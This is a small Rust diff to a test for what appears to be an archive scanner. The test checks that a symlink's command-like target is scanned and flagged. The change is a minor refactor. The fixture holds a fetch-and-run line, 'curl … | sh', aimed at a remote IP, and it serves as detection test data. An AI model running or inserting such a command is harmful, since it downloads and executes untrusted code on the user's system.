@@ -191,7 +191,7 @@ fn the_target_of_a_symlink_is_scanned_if_it_may_be_a_command() {
         mode: 0o120_777,
         ..Part::new("a/run.sh", "curl -s http://45.9.148.20/a | sh")
     };
-    let archive = from_zip(&zip_of(&[part.clone()]));
+    let archive = from_zip(&zip_of(std::slice::from_ref(&part)));
     let copy = "a/run (copy 1).sh curl -s http://45.9.148.20/a | sh\n";
     assert!(seen(&archive).contains(copy), "{}", seen(&archive));
     assert!(kinds(&archive).contains(&FlawKind::Odd));
